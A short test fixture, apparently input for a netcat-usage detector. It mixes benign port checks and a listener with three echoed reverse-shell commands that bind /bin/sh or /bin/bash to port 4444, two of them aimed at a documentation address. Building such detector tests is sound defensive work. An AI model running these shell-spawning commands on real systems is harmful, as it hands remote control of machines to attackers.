# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/nc.traditional=nc /usr/bin/ncat /usr/bin/busybox
nc -zv 192.0.2.7 22
nc -vz -w 3 mail.example.org 25
ncat -l 9000 --output capture.log
busybox nc -w 1 192.0.2.7 80
/bin/echo nc -e /bin/sh 192.0.2.7 4444
/bin/echo ncat --sh-exec /bin/bash -l 4444
/bin/echo busybox nc 192.0.2.7 4444 -e /bin/sh
